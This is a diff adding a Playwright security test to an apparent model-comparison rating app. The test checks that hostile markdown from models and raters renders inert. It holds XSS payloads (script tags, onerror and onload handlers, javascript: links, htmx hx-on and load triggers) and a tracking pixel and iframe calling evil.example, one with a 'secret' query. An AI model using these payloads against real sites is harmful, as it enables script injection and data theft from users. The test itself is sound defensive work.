@@ -117,3 +117,69 @@ def test_a_rater_whose_quota_is_full_gets_the_quota_full_code(page, live_server,
     expect(page.get_by_role("heading", name="This study is full for now")).to_be_visible()
     expect(page.get_by_test_id("panel-code")).to_have_text("FULL-123")
     assert page.console_errors == []
+
+
+HOSTILE_MARKDOWN = """Here is **bold** advice and a table:
+
+| tip | why |
+| --- | --- |
+| water | roots |
+
+<script>alert("script")</script>
+<img src=x onerror="alert('img')">
+[click me](javascript:alert('link'))
+<svg onload="alert('svg')"></svg>
+<iframe src="https://evil.example/frame"></iframe>
+<p style="background:url(https://evil.example/bg)">styled</p>
+<div hx-get="/battle/next/" hx-trigger="load">htmx</div>
+<a hx-on:click="alert('hx-on')" data-hx-get="/x">data</a>
+![tracker](https://evil.example/pixel.png?q=secret)
+Bidi \u202egnirts desrever\u202c and zero\u200bwidth text stays readable.
+"""
+HOSTILE_MESSAGE = '<script>alert("rater")</script> <img src=x onerror=alert(2)> [x](javascript:alert(3))'
+
+
+def test_hostile_text_from_models_and_raters_stays_inert(
+    page, live_server, celery_workers, study, groups, fake_llm
+):
+    from tests.fake_llm import Reply
+
+    for model in CAST:
+        fake_llm.script(model["api_model"], *[Reply(HOSTILE_MARKDOWN)] * 3)
+    dialogs, requests = [], []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("request", lambda request: requests.append(request.url))
+
+    page.goto(f"{live_server.url}/s/{study.slug}/?PROLIFIC_PID={'a' * 24}")
+    page.get_by_label("I have read this and agree").check()
+    page.get_by_role("button", name="Continue").click()
+    page.get_by_label("United States").check()
+    page.get_by_role("button", name="Next").click()
+    page.get_by_label("35–54").check()  # noqa: RUF001
+    page.get_by_role("group", name="Which best describes your ethnicity?").get_by_label("Black").check()
+    page.get_by_role("group", name="Which political party do you feel closest to?").get_by_label(
+        "Independent"
+    ).check()
+    page.get_by_role("button", name="Continue").click()
+    box = page.get_by_label("Your message to both models")
+    box.fill(HOSTILE_MESSAGE)
+    box.press("Enter")
+    expect(page.get_by_test_id("progress")).to_contain_text("Turn 1 of at most", timeout=20_000)
+
+    body = page.locator("#battle-body")
+    expect(body.locator(".markdown table").first).to_be_visible()
+    assert dialogs == []
+    assert body.locator("script, iframe, img, svg, style, object, embed").count() == 0
+    hostile_attributes = page.evaluate(
+        """() => [...document.querySelectorAll('#battle-body *')].flatMap(el => [...el.attributes]
+            .map(a => a.name).filter(n => n.startsWith('on') || n.startsWith('hx-on') || n === 'style'
+                || (n.startsWith('hx-') || n.startsWith('data-hx'))
+                    && el.parentElement.closest('[hx-disable]')))"""
+    )
+    assert hostile_attributes == []
+    assert body.locator("a[href^='javascript:'], a[href^='http:']").count() == 0
+    assert all(url.startswith(live_server.url) for url in requests), [u for u in requests if "evil" in u]
+    text = body.inner_text()
+    assert "bold" in text and "gnirts desrever" in text and "width text stays readable" in text
+    assert '<script>alert("rater")</script>' in text  # the rater's own text, shown as text
+    assert page.console_errors == []
